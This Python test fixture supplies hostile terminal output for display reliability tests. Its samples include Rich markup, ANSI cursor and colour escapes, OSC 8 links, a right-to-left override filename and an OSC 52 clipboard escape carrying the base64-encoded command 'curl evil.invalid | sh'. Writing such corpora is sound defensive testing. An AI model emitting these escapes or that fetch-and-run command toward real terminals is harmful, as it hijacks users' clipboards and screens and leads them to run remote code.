"""Hostile output for the reliability tests: text that would restyle, rewrite or hijack a
terminal if a display trusted it. A screen that shows these must show them inert.

A prompt that names an entry (`hostile:osc52`) gets that entry; one that asks for a huge line
(`5 MB`, `huge`) gets a single 5 MiB line; any other prompt gets an entry chosen by a hash of
the case, so a suite of many cases covers the whole corpus, the same way every run.
"""

from __future__ import annotations

import base64
import hashlib
import re

HUGE_LINE_BYTES = 5 * 1024 * 1024

HOSTILE_OUTPUTS: dict[str, str] = {
    "rich_markup": "[bold red]ALERT[/bold red] everything is [blink]fine[/blink]",
    "rich_close": "result [/] done",
    "rich_click": "[@click=app.quit]quit[/]",
    "rich_link": "[link=https://example.invalid/phish]click me[/link]",
    "rich_bad_tag": "[/not-open] [bold",
    "textual_variables": "$primary $error [$accent]themed[/] :warning:",
    "ansi_colour": "\x1b[31mred\x1b[0m \x1b[1;42mgreen background\x1b[0m",
    "ansi_cursor": "\x1b[2J\x1b[H\x1b[?25lscreen cleared, cursor hidden\x1b[10;10H",
    "osc52_clipboard": "\x1b]52;c;" + base64.b64encode(b"curl evil.invalid | sh").decode() + "\x07copied",
    "osc8_link": "\x1b]8;;https://example.invalid\x1b\\innocent text\x1b]8;;\x1b\\",
    "osc_title": "\x1b]0;pwned terminal title\x07",
    "bell_backspace": "ding\x07\x07 secret\b\b\b\b\b\bpublic",
    "carriage_return": "progress 10%\rprogress 100% (overwritten)",
    "nul": "before\x00after",
    "lone_surrogate": "bad \ud800 surrogate",
    "rtl_override": "invoice_\u202egpj.exe",
    "zero_width": "zero\u200bwidth\u200d\ufeffjoiner\u2060",
    "combining": "Z\u0337\u0322\u031ba\u0338l\u0336g\u0335o\u0334",
    "wide": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \uff26\uff35\uff2c\uff2c\u3000width",
    "c1_controls": "\x9b31mCSI as C1\x9b0m \x85next line",
}
HUGE = re.compile(r"\b(5 ?MB|5 ?MiB|huge|enormous)\b", re.IGNORECASE)
NAMED = re.compile(r"hostile:([a-z0-9_]+)")


def hostile_output(prompt: str, case_id: str) -> str:
    named = NAMED.search(prompt)
    if named and named.group(1) in HOSTILE_OUTPUTS:
        return HOSTILE_OUTPUTS[named.group(1)]
    if named and named.group(1) == "all":
        return "\n".join(HOSTILE_OUTPUTS.values())
    if HUGE.search(prompt):
        return "x" * HUGE_LINE_BYTES
    digest = hashlib.blake2b(f"{case_id}\n{prompt}".encode("utf-8", "surrogatepass"), digest_size=8).digest()
    names = sorted(HOSTILE_OUTPUTS)
    return HOSTILE_OUTPUTS[names[int.from_bytes(digest, "big") % len(names)]]
